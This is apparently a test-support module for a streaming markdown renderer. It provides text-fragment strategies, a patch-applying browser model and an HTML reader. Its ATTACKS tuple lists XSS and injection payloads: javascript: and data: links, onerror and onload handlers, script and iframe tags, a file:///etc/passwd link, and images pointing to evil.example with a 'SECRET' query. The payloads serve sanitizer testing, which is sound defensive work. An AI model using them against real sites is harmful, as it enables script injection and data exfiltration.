"""Texts, cuts and readers of HTML for the markdown tests."""

from __future__ import annotations

from html.parser import HTMLParser

from hypothesis import strategies as st

from nbmastra.widgets.markdown import MarkdownStream, Patch

B54 = 'See [docs](https://ex.org/a) and\n\n```py\nx = "```"\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n**end**'

ATTACKS = (
    "[x](javascript:alert(1))",
    "[x](JaVa\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [y](//evil.example/x) [z](/relative) [f](file:///etc/passwd)",
    "[a]\n\n[a]: data:text/html;base64,PHNjcmlwdD4=\n\n[a] [b][a] ![c][a]",
    "[r]: https://evil.example/?q=S\n\n![a][r] [t][r]",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?q=S'><img srcset='https://evil.example/a 2x'>",
    "<script>alert(1)</script><svg/onload=1><iframe src=//evil.example>",
    "![a](https://evil.example/p.png?q=SECRET) ![a](//evil.example/x) ![](data:image/png;base64,AAAA)",
    '![a](https://evil.example/ "t\\" onload=\\"x") [b](https://e.example/"onclick="x)',
    "[![a](https://evil.example/a.png)](https://ex.org/)",
    '<https://ex.org/"onmouseover=alert(1)> <javascript:alert(1)> <data:text/html,x>',
    '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
    "| <b onclick=x> | [y](javascript:z) |\n|---|:-:|\n| <style>*{background:url(//e)}</style> | `</td><script>` |",
    "$\\text{<img src=x onerror=alert(1)>}$ $\\href{javascript:alert(1)}{x}$ $\\style{background:url(//e)}{x}$",
    "$$\n\\class{nbm-btn}{x}\\text{&#x3c;script&#x3e;}\n$$",
    "\\[\\def\\x{\\x\\x}\\x\\] \\(\\url{javascript:x}\\)",
    "- [x] <form action=//evil.example><input autofocus onfocus=x>\n- [ ] &lt;script&gt;",
    "<a href='https://ex.org' target=_self onclick=x>a</a> &#60;script&#62;\0",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
)

_FRAGMENTS = (
    *(
        "a",
        "b ",
        "word ",
        "1",
        "12",
        "\n",
        "\n\n",
        "  ",
        "    ",
        "\t",
        " ",
        "\r\n",
        "\r",
        "\0",
        "😀",
        "\ud83d",
        "\ude00",
    ),
    *("- ", "* ", "+ ", "-\n", "1. ", "2) ", "> ", "# ", "## ", "#", "---\n", "===\n", "***", "- [x] t\n", "- [ ] "),
    *(
        "```",
        "```py\n",
        "~~~",
        "\n```\n",
        "`",
        "``",
        "**",
        "*",
        "_",
        "~~",
        "--",
        ":",
        "=",
        "-",
        "!",
        "&amp;",
        "&",
        "\\",
    ),
    *("| a | b |\n", "|---|---|\n", "| 1 | 2 |\n", "|", "[docs](https://ex.org/a)", "[", "](", "]", ")", "("),
    *("![alt](https://e.example/x.png)", "<https://a.example>", "<b>", "[r]: https://r.example/\n", "[r]", "[x][r]"),
    *("$x^2$", "$5 and $6", "$$\nx\n$$\n", "$$", "$", "\\(", "\\)", "\\[", "\\]"),
)
_LINES = (
    *(
        "- a\n",
        "- b\n",
        "* c\n",
        "\n",
        "  d\n",
        "  - e\n",
        "1. x\n",
        "2. y\n",
        "   z\n",
        "-\n",
        "- > q\n",
        "---\n",
        "p\n",
    ),
    *("- ```\n  k\n  ```\n", "    i\n", "- [x] t\n", "  \n\n", "-    w\n", "| a | b |\n", "|:-:|--:|\n", "| 1 | 2 |\n"),
    *("| *e |\n", "r\n", "|\n", "| |\n", "word ", "**"),
)

texts = st.lists(st.sampled_from(_FRAGMENTS), max_size=30).map("".join)
line_texts = st.lists(st.sampled_from(_LINES), max_size=30).map("".join)
cuts = st.lists(st.integers(1, 25), min_size=1, max_size=8)


def pieces(text: str, sizes: list[int]) -> list[str]:
    """The text in pieces of the given sizes, again and again."""
    found: list[str] = []
    while text:
        size = sizes[len(found) % len(sizes)]
        found.append(text[:size])
        text = text[size:]
    return found


class Browser:
    """What the front end does with patches, and what it may rely on."""

    def __init__(self) -> None:
        self.blocks: list[str] = []

    def apply(self, patches: list[Patch]) -> int:
        """Apply and return the bytes that were sent."""
        sent = 0
        for block, keep, add in patches:
            assert block <= len(self.blocks), "blocks come in order"
            if block == len(self.blocks):
                assert keep == 0
                self.blocks.append("")
            old = self.blocks[block].encode("utf-16-le")
            assert 2 * keep <= len(old)
            self.blocks[block] = old[: 2 * keep].decode("utf-16-le") + add
            sent += len(add.encode())
        return sent


def stream(text: str, sizes: list[int], *, look: bool = True) -> tuple[list[str], int]:
    """Feed a text in pieces; returns the blocks the browser has at the end and the bytes sent."""
    markdown, browser = MarkdownStream(), Browser()
    sent = 0
    for piece in pieces(text, sizes):
        markdown.feed(piece)
        before = list(browser.blocks)
        sent += browser.apply(markdown.patches())
        if look:
            assert browser.blocks == markdown.blocks
            assert len(browser.blocks) >= len(before), "the number of blocks never drops"
            assert browser.blocks[: max(len(before) - 1, 0)] == before[:-1], "only the last block changes"
    markdown.close()
    sent += browser.apply(markdown.patches())
    assert browser.blocks == markdown.blocks
    return browser.blocks, sent


class Reader(HTMLParser):
    """The elements and the text of HTML; fails on an end tag that closes nothing."""

    VOID = ("br", "hr")

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.comments = 0
        self._open: list[str] = []
        self.feed(html)
        self.close()
        assert not self._open, f"{self._open} not closed in {html!r}"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in self.VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open, f"</{tag}> closes nothing"
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.comments += 1
